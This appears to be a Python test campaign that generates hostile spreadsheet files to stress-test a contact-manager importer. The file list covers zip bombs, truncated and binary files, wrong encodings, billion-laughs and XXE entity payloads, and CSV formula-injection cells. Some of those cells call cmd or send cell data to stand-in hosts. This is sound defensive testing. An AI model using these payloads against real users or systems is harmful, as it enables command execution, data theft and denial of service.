"""Hostile files (issue 14): huge, truncated, binary, wrongly encoded, formula-laden, deeply
quoted and zip-bomb XLSX imports, each through ``localpro import`` in a child process against
a real workspace that already holds data.

Every case: peak RSS of the import (its process and its worker processes, ``wait4``) at most
500 MB, the wall time bounded (60 s for the huge files, 30 s for the rest), no crash (exit 3,
a traceback, ``logs/crash.log``), a message of at most 2,000 characters, and
``PRAGMA integrity_check`` ok. Then, per case:

* refused (huge, binary, truncated XLSX, zip bombs, entity expansion, missing parts, an
  endless line or quote): exit 1 with a message naming what to fix, and nothing written
  (row counts and a checksum of the prospects and contacts tables unchanged);
* accepted (wrong but decodable encodings, formula cells, a declared dimension of billions
  of cells, huge-but-allowed shared strings, the largest file accepted): exit 0, exactly the
  expected rows stored as typed, and formula cells neutralised on export (CSV and XLSX);
* either (a CSV cut at a random offset, thousands of nested quotes): refused as above, or
  accepted with no more rows than the file holds, each one a row of the file (the row a cut
  falls in is stored as far as it goes, as Excel opens it: its name may be cut short).

The import runs in a process forked from a small pre-warmed process that imported the CLI
and nothing else (an exec'ed ``python -m localpro_desktop.cli.main`` takes 3-8 s just to
start on this machine, which the CI subset cannot afford); its peak RSS includes that
process's pages, as a real command's does. Forking from the campaign's own process instead
would count its pages too (a pytest worker of the CI subset: 700 MB). In full runs every
tenth case (and the first) runs exec'ed as a real command.

    python -m faults.hostile_files --cases 200 --seed 1
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from faults._common import CampaignResult, main_for

DEFAULT_CASES = 200
MAX_RSS_MB = 500.0
HUGE_SECONDS = 60.0
CASE_SECONDS = 30.0
MAX_MESSAGE_CHARS = 2_000
EXEC_EVERY = 10
TRIGGERS = "=+-@\t\r"

CONTACT_HEADER = ["First name", "Last name", "Company", "Phone", "Email", "City", "Notes"]
PROSPECT_HEADER = ["Business name", "Phone", "City", "Sector", "Notes"]


@dataclass
class Case:
    """One hostile file and what the import must do with it."""

    kind: str  # the generator's name
    path: Path
    expect: str  # "refuse" | "accept" | "either"
    record: str = "contacts"
    words: tuple[str, ...] = ()  # one of them in the refusal's message
    # accept: the rows that must be stored, as {column: value} of the contacts table
    rows: list[dict[str, str]] = field(default_factory=list)
    # either: the values the file's first-name column may hold
    names: frozenset[str] = frozenset()
    seconds: float = CASE_SECONDS
    export: bool = False  # check formula neutralisation on export
    count: int | None = None  # accept: how many rows are created, when not listed in rows
    workspace: str = "main"
    note: str = ""


@dataclass
class Outcome:
    code: int
    seconds: float
    rss_mb: float
    stdout: str
    stderr: str
    timed_out: bool


# --------------------------------------------------------------------- file content


def person(case: int, i: int, rng: random.Random) -> dict[str, str]:
    """A valid contact, unique across the run (phone and e-mail from case and row)."""
    serial = case * 2_000 + i
    return {
        "First name": f"Hf{case}x{i}",
        "Last name": rng.choice(["Diallo", "Ndiaye", "Sow", "Fall", "Ba"]),
        "Company": f"Boutique {case}-{i}",
        "Phone": f"+22177{serial:07d}",
        "Email": f"hf{serial}@example.sn",
        "City": rng.choice(["Dakar", "Thiès", "Saint-Louis", "Ziguinchor"]),
        "Notes": "",
    }


def csv_text(header: list[str], rows: list[dict[str, str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(h, "") for h in header])
    return out.getvalue()


def stored(row: dict[str, str]) -> dict[str, str]:
    """What the contacts table holds for a file's row: the reader strips each cell, and the
    importer takes off the quote an export put before a formula (export → import is exact)."""
    from localpro_desktop.services.exporting.exporters import unneutralise

    return {
        "first_name": unneutralise(row["First name"].strip()),
        "last_name": unneutralise(row["Last name"].strip()),
        "company": unneutralise(row["Company"].strip()),
        "city": unneutralise(row["City"].strip()),
        "notes": unneutralise(row["Notes"].strip()),
    }


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Clients" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
_EMPTY_SHARED = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" '
    b'uniqueCount="0"></sst>'
)


def _xml_text(value: str) -> str:
    text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    # Tabs and carriage returns survive XML only as character references.
    return text.replace("\t", "&#9;").replace("\r", "&#13;")


def _column(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def sheet_rows(header: list[str], rows: list[dict[str, str]], start: int = 1) -> bytes:
    """Rows of inline strings, as <row> elements."""
    parts = []
    for number, values in enumerate([header, *[[r.get(h, "") for h in header] for r in rows]]):
        cells = "".join(
            f'<c r="{_column(i)}{number + start}" t="inlineStr"><is><t xml:space="preserve">'
            f"{_xml_text(v)}</t></is></c>"
            for i, v in enumerate(values)
            if v != ""
        )
        parts.append(f'<row r="{number + start}">{cells}</row>')
    return "".join(parts).encode("utf-8")


def write_xlsx(
    path: Path,
    sheet: bytes | Callable[[Callable[[bytes], object]], None],
    *,
    shared: bytes | Callable[[Callable[[bytes], object]], None] | None = None,
    workbook: bytes = WORKBOOK,
    leave_out: str | None = None,
    level: int = 6,
) -> Path:
    """A workbook written part by part; a part given as a function streams its content."""
    parts: list[tuple[str, object]] = [
        ("[Content_Types].xml", _CONTENT_TYPES),
        ("_rels/.rels", _ROOT_RELS),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/sharedStrings.xml", shared if shared is not None else _EMPTY_SHARED),
    ]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts:
            if name == leave_out:
                continue
            if isinstance(content, bytes):
                archive.writestr(name, content)
            else:
                with archive.open(name, "w", force_zip64=True) as handle:
                    content(handle.write)  # type: ignore[operator]
    return path


def full_sheet(body: bytes, dimension: str | None = None) -> bytes:
    dim = f'<dimension ref="{dimension}"/>'.encode() if dimension else b""
    return _SHEET_HEAD + dim + b"<sheetData>" + body + b"</sheetData></worksheet>"


# ------------------------------------------------------------------------ generators


@dataclass
class Gen:
    """What a generator gets: the randomness, a folder, the case number, the scale."""

    rng: random.Random
    folder: Path
    case: int
    full: bool
    cache: dict[str, Path]

    def file(self, name: str) -> Path:
        return self.folder / f"c{self.case:04d}-{name}"


def gen_huge_csv(g: Gen) -> Case:
    """Hundreds of MB of valid rows (tens in the CI subset): refused by size, at once."""
    key = "huge"
    if key not in g.cache:
        size_mb = g.rng.randint(200, 400) if g.full else 30
        path = g.folder / f"huge-{size_mb}mb.csv"
        block = csv_text(CONTACT_HEADER, [person(0, i, g.rng) for i in range(8_000)])
        block_bytes = block.split("\r\n", 1)[1].encode()
        with path.open("wb") as handle:
            handle.write(block.encode())
            while handle.tell() < size_mb * 1024 * 1024:
                handle.write(block_bytes)
        g.cache[key] = path
    return Case("huge_csv", g.cache[key], "refuse", words=("MB",), seconds=HUGE_SECONDS)


def gen_single_line(g: Gen) -> Case:
    """One line of millions of characters, no line break (issue 14 finding 7's 50 MB file)."""
    size = g.rng.randint(8, 20) * 1024 * 1024 if g.full else g.rng.randint(1, 3) * 1024 * 1024
    unit = g.rng.choice([b"abc,", b"x;", b'"q",', b"nom\t", b"lorem ipsum "])
    path = g.file("one-line.csv")
    path.write_bytes(unit * (size // len(unit)))
    return Case("single_line", path, "refuse", words=("characters",), seconds=HUGE_SECONDS)


def gen_long_row(g: Gen) -> Case:
    """A fine header, then one data line of millions of cells or one endless cell."""
    size = g.rng.randint(4, 20) * 1024 * 1024 if g.full else 2 * 1024 * 1024
    path = g.file("long-row.csv")
    head = csv_text(CONTACT_HEADER, [person(g.case, 0, g.rng)]).encode()
    names = frozenset([person(g.case, 0, random.Random(0))["First name"]])
    if g.rng.random() < 0.5:
        # Under the cell bound the row is one row with too many cells: rejected, the
        # others stored (either); past it the file is refused.
        path.write_bytes(head + b"x," * (size // 2))
        return Case(
            "long_row",
            path,
            "either",
            names=names,
            words=("cells",),
            seconds=HUGE_SECONDS,
            note=f"{size // 2:,} cells",
        )
    path.write_bytes(head + b"y" * size)
    return Case("long_row", path, "refuse", words=("longer than",), seconds=HUGE_SECONDS)


def gen_too_many_rows(g: Gen) -> Case:
    """Short rows, a small file, one row more than an import takes."""
    from localpro_desktop.services.importing.table import MAX_ROWS

    extra = g.rng.randint(1, 5_000)
    path = g.file("many-rows.csv")
    with path.open("w", encoding="utf-8") as handle:
        handle.write("First name,Phone\n")
        handle.writelines(f"n{i},\n" for i in range(MAX_ROWS + extra))
    return Case("too_many_rows", path, "refuse", words=("rows",), seconds=HUGE_SECONDS)


def gen_capacity(g: Gen) -> Case:
    """The largest file accepted (the row bound, near the size bound), into its own workspace:
    stored whole within the memory bound. Full runs only (about 15-30 s)."""
    from localpro_desktop.services.importing.table import MAX_ROWS

    key = "capacity"
    if key not in g.cache:
        path = g.folder / "capacity.csv"
        rng = random.Random(g.case)
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\r\n")
            writer.writerow(CONTACT_HEADER)
            for i in range(MAX_ROWS):
                row = person(1_000 + i // 2_000, i % 2_000, rng)
                row["Notes"] = "note " * 32  # ~ 230 bytes a row, ~ 23 MB in all
                writer.writerow([row[h] for h in CONTACT_HEADER])
        g.cache[key] = path
    return Case(
        "capacity",
        g.cache[key],
        "accept",
        count=MAX_ROWS,
        seconds=HUGE_SECONDS,
        workspace="capacity",
        note=f"{MAX_ROWS} rows",
    )


def gen_truncated_csv(g: Gen) -> Case:
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(5, 400))]
    data = csv_text(CONTACT_HEADER, rows, g.rng.choice([",", ";"])).encode("utf-8")
    cut = g.rng.randint(0, len(data) - 1)
    path = g.file("cut.csv")
    path.write_bytes(data[:cut])
    names = frozenset(r["First name"] for r in rows)
    return Case("truncated_csv", path, "either", names=names, note=f"cut at {cut}/{len(data)}")


def gen_truncated_xlsx(g: Gen) -> Case:
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(5, 400))]
    whole = write_xlsx(g.file("whole.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows)))
    data = whole.read_bytes()
    whole.unlink()
    cut = g.rng.randint(0, len(data) - 1)
    path = g.file("cut.xlsx")
    path.write_bytes(data[:cut])
    words = ("empty",) if cut == 0 else ("xlsx",)
    return Case("truncated_xlsx", path, "refuse", words=words, note=f"cut at {cut}/{len(data)}")


def gen_binary(g: Gen) -> Case:
    """Not a table at all, under a .csv or .xlsx name."""
    suffix = g.rng.choice([".csv", ".xlsx", ".txt"])
    size = g.rng.randint(1, 2_000_000)
    choice = g.rng.choice(["random", "png", "elf", "zeros", "pdf", "zip-in-csv", "csv-in-xlsx"])
    if choice == "random":
        data = g.rng.randbytes(size)
    elif choice == "png":
        data = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + g.rng.randbytes(size)
    elif choice == "elf":
        data = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + g.rng.randbytes(size)
    elif choice == "zeros":
        data = bytes(size)
    elif choice == "pdf":
        data = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + g.rng.randbytes(size)
    elif choice == "zip-in-csv":
        suffix = ".csv"
        inner = g.file("inner.xlsx")
        write_xlsx(inner, full_sheet(sheet_rows(CONTACT_HEADER, [person(g.case, 0, g.rng)])))
        data = inner.read_bytes()
        inner.unlink()
    else:
        suffix = ".xlsx"
        data = csv_text(CONTACT_HEADER, [person(g.case, 0, g.rng)]).encode()
    path = g.file(f"{choice}{suffix}")
    path.write_bytes(data)
    words: tuple[str, ...] = ("xlsx",)
    if suffix != ".xlsx":
        words = ("binary", "Excel workbook", "not a text")
    if suffix != ".xlsx" and choice == "zeros":
        words = ("binary", "not a text")
    return Case("binary", path, "refuse", words=words, note=choice)


_ACCENTED = "éèêëàâçôöîïùûüÉÈÀÇÔ"


def accented_people(g: Gen, count: int) -> list[dict[str, str]]:
    rows = []
    for i in range(count):
        row = person(g.case, i, g.rng)
        row["Last name"] = "".join(g.rng.choice(_ACCENTED + "abcdefg") for _ in range(8))
        row["City"] = g.rng.choice(["Thiès", "Kébémer", "Rufisque", "Mbour"])
        row["Notes"] = g.rng.choice(["Boulangerie Façon d’Or", "Café Ô Délices", "déjà vu", ""])
        rows.append(row)
    return rows


def gen_encoding(g: Gen) -> Case:
    """Wrong but decodable: UTF-16 without BOM, Latin-1, cp1252, UTF-8 and cp1252 mixed."""
    rows = accented_people(g, g.rng.randint(3, 200))
    which = g.rng.choice(["utf-16-le", "utf-16-be", "latin-1", "cp1252", "mixed", "utf-8-sig"])
    delimiter = "\t" if which.startswith("utf-16") and g.rng.random() < 0.5 else ";"
    if which == "latin-1":
        for row in rows:  # Latin-1 has no curly apostrophe: keep to what it can write
            row["Notes"] = row["Notes"].replace("’", "'")
    text = csv_text(CONTACT_HEADER, rows, delimiter)
    if which == "mixed":
        lines = text.split("\r\n")
        data = b"\r\n".join(
            line.encode("utf-8" if n % 2 else "cp1252") for n, line in enumerate(lines)
        )
    else:
        data = text.encode(which)
    path = g.file(f"{which}.csv")
    path.write_bytes(data)
    return Case("encoding", path, "accept", rows=[stored(r) for r in rows], note=which)


def gen_invalid_utf8(g: Gen) -> Case:
    """Invalid UTF-8 sequences in a UTF-8 file: stored (as cp1252 for those bytes)."""
    rows = accented_people(g, g.rng.randint(3, 100))
    bad = [b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xe9", b"\x80\x81", b"\xf8\x88\x80\x80\x80"]
    text = csv_text(CONTACT_HEADER, rows)
    lines = text.encode("utf-8").split(b"\r\n")
    for n in range(1, len(lines) - 1):
        if g.rng.random() < 0.5:
            lines[n] = lines[n] + g.rng.choice(bad)  # into the notes, the last column
    path = g.file("invalid-utf8.csv")
    path.write_bytes(b"\r\n".join(lines))
    names = frozenset(r["First name"] for r in rows)
    return Case("invalid_utf8", path, "either", names=names, note="bytes in notes")


_FORMULAS = (
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    '=IMPORTXML(CONCAT("http://x.example/",A2),"//a")',
    "\t=1+1",
    "\r=2+2",
    "=\t1",
)


def gen_formulas(g: Gen) -> Case:
    """Formula cells in every text column: stored as typed, neutralised on export."""
    rows = []
    for i in range(g.rng.randint(3, 60)):
        row = person(g.case, i, g.rng)
        for column in ("Last name", "Company", "City", "Notes"):
            if g.rng.random() < 0.6:
                row[column] = g.rng.choice(_FORMULAS)
        # A formula cannot head a name the reader strips: keep the first name plain.
        rows.append(row)
    if g.rng.random() < 0.5:
        path = g.file("formulas.csv")
        path.write_text(csv_text(CONTACT_HEADER, rows), encoding="utf-8")
    else:
        path = write_xlsx(g.file("formulas.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows)))
    return Case(
        "formulas",
        path,
        "accept",
        rows=[stored(r) for r in rows],
        export=True,
        note=path.suffix,
    )


def gen_deep_quotes(g: Gen) -> Case:
    """Thousands of doubled quotes in a cell: valid CSV, the cell a run of quote marks."""
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(2, 50))]
    depth = g.rng.randint(1_000, 60_000) if g.full else g.rng.randint(1_000, 5_000)
    victim = g.rng.randrange(len(rows))
    rows[victim]["Notes"] = '"' * depth
    path = g.file("deep-quotes.csv")
    path.write_text(csv_text(CONTACT_HEADER, rows), encoding="utf-8")
    names = frozenset(r["First name"] for r in rows)
    return Case("deep_quotes", path, "either", names=names, note=f"{depth} quotes")


def gen_unclosed_quote(g: Gen) -> Case:
    """A quote opened in a cell and never closed: the rest of the file is inside it."""
    count = g.rng.randint(200, 20_000) if g.full else g.rng.randint(200, 5_000)
    rows = [person(g.case, i, g.rng) for i in range(count)]
    text = csv_text(CONTACT_HEADER, rows)
    lines = text.split("\r\n")
    at = g.rng.randint(1, min(5, len(lines) - 2))
    lines[at] = lines[at].replace(",", ',"', 1)
    path = g.file("unclosed.csv")
    path.write_text("\r\n".join(lines), encoding="utf-8")
    names = frozenset(r["First name"] for r in rows)
    size = path.stat().st_size
    # Under the cell bound the whole tail is one (long) note, a row of the file: either.
    expect = "refuse" if size > 200_000 else "either"
    return Case("unclosed_quote", path, expect, names=names, words=("quote",), note=f"{size} B")


def _repeat(chunk: bytes, total: int) -> Callable[[Callable[[bytes], object]], None]:
    def stream(write: Callable[[bytes], object]) -> None:
        block = chunk * max(1, (1 << 20) // len(chunk))
        written = 0
        while written < total:
            write(block)
            written += len(block)

    return stream


def gen_zip_bomb_sheet(g: Gen) -> Case:
    """A worksheet a few MB on disk that inflates to hundreds of MB (GBs in full runs)."""
    from localpro_desktop.services.importing.xlsx_reader import MAX_SHEET_MB

    key = "bomb-sheet"
    if key not in g.cache:
        total = (g.rng.randint(1, 3) * 1024 if g.full else MAX_SHEET_MB + 8) * 1024 * 1024
        row = b'<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaa</t></is></c></row>'
        head = _SHEET_HEAD + b"<sheetData>" + sheet_rows(CONTACT_HEADER, [])

        def body(write: Callable[[bytes], object]) -> None:
            write(head)
            _repeat(row, total)(write)
            write(b"</sheetData></worksheet>")

        path = write_xlsx(g.folder / "bomb-sheet.xlsx", body, level=1)
        g.cache[key] = path
    return Case("zip_bomb_sheet", g.cache[key], "refuse", words=("unpacks",), seconds=HUGE_SECONDS)


def gen_zip_bomb_shared(g: Gen) -> Case:
    """Shared strings past their bound (refused), or just under it (read within memory)."""
    from localpro_desktop.services.importing.xlsx_reader import MAX_SHARED_STRINGS_MB

    over = g.rng.random() < 0.5
    under = MAX_SHARED_STRINGS_MB - 2 if g.full else 2
    megabytes = MAX_SHARED_STRINGS_MB + 4 if over else under
    key = f"bomb-shared-{over}"
    rows = [person(g.case, i, g.rng) for i in range(3)]
    item = b"<si><t>s</t></si>"
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://'
        b'schemas.openxmlformats.org/spreadsheetml/2006/main">'
    )

    def shared(write: Callable[[bytes], object]) -> None:
        write(head)
        _repeat(item, megabytes * 1024 * 1024 - 4096)(write)
        write(b"</sst>")

    path = write_xlsx(
        g.file(f"{key}.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows)), shared=shared
    )
    if over:
        return Case("zip_bomb_shared", path, "refuse", words=("unpacks",), seconds=HUGE_SECONDS)
    return Case(
        "zip_bomb_shared",
        path,
        "accept",
        rows=[stored(r) for r in rows],
        seconds=HUGE_SECONDS,
        note=f"{megabytes} MB of shared strings",
    )


def gen_declared_cells(g: Gen) -> Case:
    """Billions of declared cells: a dimension A1:XFD1048576 over a few real rows (stored),
    or real cells at the last column of many rows / the last row (refused or stored)."""
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(2, 30))]
    body = sheet_rows(CONTACT_HEADER, rows)
    which = g.rng.choice(["dimension", "far-columns", "far-row"])
    if which == "dimension":
        ref = g.rng.choice(["A1:XFD1048576", "A1:ZZZZ99999999", "A1:A1"])
        path = write_xlsx(g.file("dimension.xlsx"), full_sheet(body, ref))
        if ref == "A1:ZZZZ99999999":  # past Excel's last column: openpyxl calls it damaged
            return Case("declared_cells", path, "refuse", words=("xlsx",), note=ref)
        return Case("declared_cells", path, "accept", rows=[stored(r) for r in rows], note=ref)
    if which == "far-columns":
        far = b"".join(
            f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>z</t></is></c></row>'.encode()
            for n in range(len(rows) + 2, len(rows) + 2 + g.rng.randint(700, 3_000))
        )
        path = write_xlsx(g.file("far-columns.xlsx"), full_sheet(body + far))
        return Case("declared_cells", path, "refuse", words=("cells",), note=which)
    far_row = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>last</t></is></c></row>'
    path = write_xlsx(g.file("far-row.xlsx"), full_sheet(body + far_row))
    names = frozenset([*(r["First name"] for r in rows), "last"])
    return Case("declared_cells", path, "either", names=names, words=("cells", "rows"), note=which)


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


def gen_entities(g: Gen) -> Case:
    """XML entity expansion ("billion laughs") and external entities in the workbook's XML."""
    rows = [person(g.case, i, g.rng) for i in range(3)]
    where = g.rng.choice(["sheet", "shared", "workbook", "external"])
    sheet = full_sheet(sheet_rows(CONTACT_HEADER, rows))
    shared = None
    workbook = WORKBOOK
    if where == "sheet":
        sheet = LAUGHS + sheet.split(b"?>", 1)[1].replace(
            b"<sheetData>",
            b'<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
            1,
        )
    elif where == "shared":
        shared = LAUGHS + (
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<si><t>&lol9;</t></si></sst>"
        )
    elif where == "workbook":
        workbook = LAUGHS + WORKBOOK.split(b"?>", 1)[1].replace(b'name="Clients"', b'name="&lol9;"')
    else:
        secret = g.folder / "secret.txt"
        secret.write_text("TOP-SECRET-LINE", encoding="utf-8")
        doctype = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{secret}">]>'.encode()
        sheet = (b'<?xml version="1.0"?>\n' + doctype + sheet.split(b"?>", 1)[1]).replace(
            b"<sheetData>",
            b'<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&x;</t></is></c></row>',
            1,
        )
    path = write_xlsx(g.file(f"entities-{where}.xlsx"), sheet, shared=shared, workbook=workbook)
    return Case("entities", path, "refuse", words=("xlsx",), note=where)


def gen_missing_part(g: Gen) -> Case:
    rows = [person(g.case, i, g.rng) for i in range(3)]
    part = g.rng.choice(
        [
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/worksheets/sheet1.xml",
            "xl/sharedStrings.xml",
        ]
    )
    body = sheet_rows(CONTACT_HEADER, rows)
    if part == "xl/sharedStrings.xml":  # referenced by index from the sheet
        body = body.replace(
            b'<c r="A2" t="inlineStr"><is><t xml:space="preserve">',
            b'<c r="A2" t="s"><v>7</v></c><c r="Z2" t="inlineStr"><is><t>',
            1,
        )
    path = write_xlsx(g.file("missing.xlsx"), full_sheet(body), leave_out=part)
    if part in ("xl/sharedStrings.xml", "_rels/.rels"):
        # openpyxl finds the workbook at its usual place without _rels/.rels: either.
        names = frozenset(r["First name"] for r in rows)
        return Case("missing_part", path, "either", names=names, words=("xlsx",), note=part)
    return Case("missing_part", path, "refuse", words=("xlsx",), note=part)


def gen_lying_size(g: Gen) -> Case:
    """A worksheet whose zip directory declares a few bytes while it inflates to MBs."""
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(3, 50))]
    pad = b"<row/>" * (g.rng.randint(1, 8) * 100_000)
    path = write_xlsx(g.file("lying.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows) + pad))
    data = bytearray(path.read_bytes())
    # Patch the uncompressed size of sheet1.xml in the central directory (and zip64 extra).
    name = b"xl/worksheets/sheet1.xml"
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_len = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + name_len] == name:
            data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    return Case("lying_size", path, "refuse", words=("xlsx",))


GENERATORS: dict[str, Callable[[Gen], Case]] = {
    "huge_csv": gen_huge_csv,
    "single_line": gen_single_line,
    "long_row": gen_long_row,
    "too_many_rows": gen_too_many_rows,
    "truncated_csv": gen_truncated_csv,
    "truncated_xlsx": gen_truncated_xlsx,
    "binary": gen_binary,
    "encoding": gen_encoding,
    "invalid_utf8": gen_invalid_utf8,
    "formulas": gen_formulas,
    "deep_quotes": gen_deep_quotes,
    "unclosed_quote": gen_unclosed_quote,
    "zip_bomb_sheet": gen_zip_bomb_sheet,
    "zip_bomb_shared": gen_zip_bomb_shared,
    "declared_cells": gen_declared_cells,
    "entities": gen_entities,
    "missing_part": gen_missing_part,
    "lying_size": gen_lying_size,
}
FULL_ONLY = {"capacity": gen_capacity}


def schedule(cases: int, rng: random.Random, full: bool) -> list[str]:
    """Every kind before any twice (so a small run still covers most), in a seeded order."""
    kinds = list(GENERATORS)
    order: list[str] = []
    while len(order) < cases:
        rng.shuffle(kinds)
        order.extend(kinds)
    order = order[:cases]
    if full and cases >= 50:
        order[rng.randrange(len(order))] = "capacity"
    return order


# ------------------------------------------------------------------------ the workspace


def db_path(workspace: Path) -> Path:
    return workspace / "localpro.sqlite"


def snapshot(workspace: Path) -> tuple[dict[str, int], str]:
    """Row counts of the record tables and a checksum of prospects and contacts."""
    connection = sqlite3.connect(f"file:{db_path(workspace)}?mode=ro", uri=True)
    try:
        counts = {}
        digest = hashlib.sha256()
        for table in ("prospects", "contacts", "activities"):
            counts[table] = connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
        for table in ("prospects", "contacts"):
            for row in connection.execute(f"SELECT * FROM {table} ORDER BY id"):
                digest.update(repr(row).encode())
        return counts, digest.hexdigest()
    finally:
        connection.close()


def integrity(workspace: Path) -> str:
    connection = sqlite3.connect(f"file:{db_path(workspace)}?mode=ro", uri=True)
    try:
        return str(connection.execute("PRAGMA integrity_check").fetchone()[0])
    finally:
        connection.close()


def contacts_named(workspace: Path, first_names: set[str]) -> list[dict[str, str]]:
    connection = sqlite3.connect(f"file:{db_path(workspace)}?mode=ro", uri=True)
    connection.row_factory = sqlite3.Row
    try:
        found = []
        for row in connection.execute(
            "SELECT first_name, last_name, company, city, notes FROM contacts "
            "WHERE deleted_at IS NULL"
        ):
            if row["first_name"] in first_names:
                found.append(dict(row))
        return found
    finally:
        connection.close()


def seed_workspace(root: Path, rng: random.Random) -> None:
    """A workspace holding 300 contacts and 100 prospects, imported as a user would."""
    from localpro_desktop.paths import WorkspacePaths
    from localpro_desktop.services.importing.importer import import_file
    from localpro_desktop.services.workspace import Workspace

    ws = Workspace.open(WorkspacePaths(root), daily_backup=False)
    try:
        contacts = root.parent / f"{root.name}-seed-contacts.csv"
        contacts.write_text(
            csv_text(CONTACT_HEADER, [person(0, i, rng) for i in range(300)]), encoding="utf-8"
        )
        prospects = root.parent / f"{root.name}-seed-prospects.csv"
        prospect_rows = []
        for i in range(100):  # the Starter plan allows 200 new prospects a month
            p = person(0, 1_000 + i, rng)
            prospect_rows.append(
                {
                    "Business name": p["Company"],
                    "Phone": p["Phone"],
                    "City": p["City"],
                    "Sector": rng.choice(["Boulangerie", "Restaurant", "Pharmacie"]),
                    "Notes": "",
                }
            )
        prospects.write_text(csv_text(PROSPECT_HEADER, prospect_rows), encoding="utf-8")
        import_file(ws, "contacts", contacts, workers=1)
        import_file(ws, "prospects", prospects, workers=1)
    finally:
        ws.close()


# ------------------------------------------------------------------------ running it


def _tree_rss_mb(pid: int) -> float:
    """Resident memory of a process and its descendants now (MB), for the figures."""
    total = 0.0
    stack = [pid]
    while stack:
        current = stack.pop()
        try:
            for line in Path(f"/proc/{current}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    total += int(line.split()[1]) / 1024
